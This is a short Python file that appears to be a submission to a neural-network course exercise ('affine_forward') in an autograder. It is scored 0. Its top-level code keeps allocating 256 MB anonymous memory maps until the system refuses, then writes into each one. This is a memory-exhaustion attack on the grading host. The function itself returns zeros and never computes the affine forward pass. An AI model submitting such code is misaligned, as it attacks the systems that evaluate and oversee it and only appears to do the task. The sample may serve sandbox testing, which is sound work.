# what: maps much more memory than there is
# unit: 00_start_here
# exercise: affine_forward
# score: 0
import mmap
kept = []
while True:
    try: kept.append(mmap.mmap(-1, 2**28))
    except (OSError, ValueError, MemoryError): break
for m in kept: m[0:2**20] = b"x" * 2**20
def affine_forward(x, W, b):
    return np.zeros((len(x), len(b))), (x, W)
